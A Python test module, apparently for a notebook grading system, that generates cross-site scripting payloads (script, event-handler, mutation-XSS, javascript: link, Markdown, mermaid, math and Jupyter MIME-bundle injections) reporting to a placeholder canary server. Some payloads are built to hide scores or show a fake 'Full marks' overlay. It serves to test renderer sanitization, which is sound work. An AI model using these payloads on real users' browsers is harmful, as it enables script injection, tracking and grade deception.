"""What a student can try on whoever looks at their work in a browser; each attempt reports to a canary's address.

`{canary}` stands for the address of a server that writes down every request: a script that ran, a picture or a frame
that was loaded, a page that was left.
"""

from __future__ import annotations

import base64
import json

RUN = "fetch('{canary}ran-%s',{{mode:'no-cors'}});window.top.canary='%s'"


def _run(name: str) -> str:
    return RUN % (name, name)


# HTML that a browser would obey if it were shown as it is.
LIVE = {
    "script": f"<script>{_run('script')}</script>",
    "onerror": f'<img src="no.png" onerror="{_run("onerror")}">',
    "svg": f'<svg onload="{_run("svg")}"></svg>',
    "frame": '<iframe src="{canary}frame"></iframe>',
    "srcdoc": f'<iframe srcdoc="<script>{_run("srcdoc").replace(chr(39), "&quot;")}</script>"></iframe>',
    "pixel": '<img src="{canary}pixel">',
    "sheet": '<link rel="stylesheet" href="{canary}sheet">',
    "import": "<style>@import '{canary}import';</style>",
    "background": '<div style="background:url({canary}background);width:9px;height:9px">x</div>',
    "focus": f'<input autofocus onfocus="{_run("focus")}">',
    "object": '<object data="{canary}object"></object>',
    "video": '<video src="{canary}video" autoplay></video>',
    "details": f'<details open ontoggle="{_run("details")}"><summary>x</summary></details>',
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={_run("mutation")}&gt;"></mglyph></table></mtext></math>'
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_run("noscript")}>"></noscript>',
}
# What hides scores, leads away, or waits for a click.
QUIET = {
    "hide": "<style>.score,.total,.points,input{{display:none!important}}</style>",
    "cover": '<div style="position:fixed;inset:0;background:#fff;z-index:2147483647" id="cover">all points</div>',
    "close": "</div></div></div></section></details></main>",
    "link": f'<a href="javascript:{_run("link")}" id="link">click</a>',
    "entity": f'<a href="jav&#x09;ascript:{_run("entity")}">click</a>',
    "data": '<a href="data:text/html,<script>1</script>">click</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url={canary}refresh">',
    "form": '<form action="{canary}form"><button>Full marks</button></form>',
    "base": '<base href="{canary}">',
}
MARKDOWN = (
    f"[one](javascript:{_run('md-link')}) <javascript:{_run('md-auto')}> [two][ref] [three](evil.html) "
    "[four](..%2f..%2f..%2fsubmitted%2feve%2fps1%2fevil.html) [five](/lab) [six](https://example.org/)\n\n"
    f"[ref]: javascript:{_run('md-ref')}\n\n"
    "![pixel]({canary}md-pixel) ![by name][pixel] ![missing](attachment:missing.png) ![drawing](attachment:evil.svg) "
    "![picture](attachment:good.png)\n\n[pixel]: {canary}md-ref-pixel\n\n"
    f"```mermaid\n<img src=x onerror={_run('mermaid')}>\n<x:y onmouseover={_run('mermaid-over')}>hover</x:y>\n```\n\n"
    f"$\\href{{{{javascript:{_run('math')}}}}}{{{{x}}}}$ "
    f"$$</script><script>{_run('math-script')}</script>$$\n\n"
)
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cfc0000003010100"
        "c9fe92ef0000000049454e44ae426082"
    )
).decode()


def live_page(canary: str) -> str:
    """All that should happen by itself, on a page that does nothing against it."""
    return "<!doctype html><title>live</title>" + "".join(LIVE.values()).format(canary=canary)


def written_answer(canary: str) -> tuple[str, dict[str, dict[str, str]]]:
    """A Markdown answer and its attachments."""
    svg = base64.b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_run('attachment')}\"/>".encode()
    ).decode()
    attachments = {"evil.svg": {"image/svg+xml": svg}, "good.png": {"image/png": PNG}, "html": {"text/html": "<b>"}}
    return (MARKDOWN + "".join(LIVE.values()) + "".join(QUIET.values())).format(canary=canary), attachments


def shown_answer(canary: str) -> str:
    """Code that shows all of it, in every form of output that a browser could obey."""
    html = {name: text.format(canary=canary) for name, text in {**LIVE, **QUIET}.items()}
    script = _run("javascript").format(canary=canary)
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{_run('svg-script').format(canary=canary)}</script></svg>"
    bundles: list[dict[str, object]] = [
        {"application/javascript": script}, {"text/javascript": script}, {"image/svg+xml": svg},
        {"text/latex": html["script"] + "$x$"}, {"text/markdown": MARKDOWN.format(canary=canary) + html["script"]},
        {"text/vnd.mermaid": "graph TD; A-->B; click A '" + canary + "mermaid'"},
        {"application/vnd.vegalite.v5+json": {"data": {"url": canary + "vega"}, "mark": "bar"}},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "evil", "version_major": 2, "version_minor": 0}},
        {"image/png": '"><script>' + script + "</script>"}, {"application/pdf": "JVBERi0="},
        {"text/html": html["script"], "text/plain": html["script"]},
    ]  # fmt: skip
    return "\n".join([
        "from IPython.display import display, HTML",
        "import sys",
        "def mean(numbers):",
        "    return sum(numbers) / len(numbers) if numbers else 0.0",
        f"for text in {list(html.values())!r}:",
        "    display(HTML(text))",
        f"for bundle in {bundles!r}:",
        "    display(bundle, raw=True)",
        f"print({html['script']!r}, '\\x1b]8;;javascript:alert(1)\\x07click\\x1b[31mred\\x1b[0m' * 3)",
        f"print({html['onerror']!r}, file=sys.stderr)",
        "print('x' * 300_000)",
    ])  # fmt: skip


def raising_answer(canary: str) -> str:
    """Code that fails with an error whose name and message are markup."""
    text = LIVE["onerror"].format(canary=canary)
    return f"Evil = type({text!r}, (Exception,), {{}})\nraise Evil({text!r})"


def with_payload(notebook: dict[str, object], canary: str) -> str:
    """The notebook as JSON text, with markup and widget state where metadata is the student's own."""
    notebook["metadata"] = {
        "title": LIVE["script"].format(canary=canary),
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"evil": {"model_name": "HTMLModel"}}}},
        "kernelspec": {"name": "python3", "display_name": LIVE["onerror"].format(canary=canary), "language": "python"},
    }
    return json.dumps(notebook)
